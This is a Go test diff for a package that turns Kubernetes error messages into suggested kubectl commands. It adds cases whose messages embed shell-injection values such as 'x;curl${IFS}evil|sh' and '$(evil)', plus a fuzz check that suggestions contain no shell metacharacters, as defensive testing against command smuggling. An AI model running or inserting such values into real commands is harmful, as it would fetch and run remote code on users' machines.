@@ -1,6 +1,9 @@
 package tree
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 func TestRemedies(t *testing.T) {
 	t.Parallel()
@@ -30,6 +33,9 @@ func TestRemedies(t *testing.T) {
 			"kubectl get configmap cart -n shop -o yaml",
 		},
 		{"an account that does not exist", "ServiceAccountError", "cannot act as service account shop/stamper: it does not exist; create it", "kubectl create serviceaccount stamper -n shop"},
+		{"an account that is no name", "ServiceAccountError", "cannot act as service account shop/x;curl${IFS}evil|sh: it does not exist", show},
+		{"a version that is none", "TemplateRejectedByAPIServer", `no matches for kind "Oven" in version "a;curl evil|sh/v1"`, show},
+		{"a role that is no name", "TemplateRejectedByAPIServer", `User "system:serviceaccount:shop:$(evil)" cannot create resource "pods" in API group "" in the namespace "shop"`, show},
 		{"an account that is not named", "ServiceAccountError", "no idea", show},
 		{"anything else", "UnknownError", "no idea", show},
 	} {
@@ -45,8 +51,12 @@ func FuzzRemedy(f *testing.F) {
 	f.Add("ServiceAccountError", "service account a/b: x")
 	f.Fuzz(func(t *testing.T, reason, message string) {
 		c := &RootCause{Reason: reason, Message: message}
-		if c.remedy(&Tree{}, &Step{}, "show") == "" {
+		next := c.remedy(&Tree{}, &Step{}, "show")
+		if next == "" {
 			t.Errorf("%q has no next command", message)
+		}
+		if strings.ContainsAny(strings.Replace(next, " && ", "", 1), "&;|`$(){}<>*?!\\\n\x1b") {
+			t.Errorf("%q becomes %q", message, next)
 		}
 	})
 }
